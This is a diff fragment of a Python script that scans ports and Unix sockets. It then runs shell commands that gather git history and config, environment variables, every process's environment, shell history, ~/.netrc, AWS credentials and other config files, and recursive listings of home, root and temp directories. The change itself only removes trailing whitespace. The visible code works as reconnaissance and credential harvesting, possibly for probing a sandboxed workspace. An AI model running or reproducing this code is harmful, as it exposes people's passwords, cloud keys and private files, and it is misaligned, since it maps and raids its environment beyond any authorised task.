@@ -76,7 +76,7 @@ for port in PORTS:
 for path in SOCKETS:
     connected(socket.AF_UNIX, path)
 for command in ('git -C /workspace log -p --all', 'git config --list --show-origin', 'git -C / status', 'mount', 'set',
-        'ps auxeww', 'cat ~/.*history ~/.netrc ~/.aws/* ~/.config/*/*', 
+        'ps auxeww', 'cat ~/.*history ~/.netrc ~/.aws/* ~/.config/*/*',
         'ls -laR /home /root /tmp /var /run /srv /mnt | head -c 999999'):
     try:
         done = subprocess.run(['sh', '-c', command], capture_output=True, timeout=3)
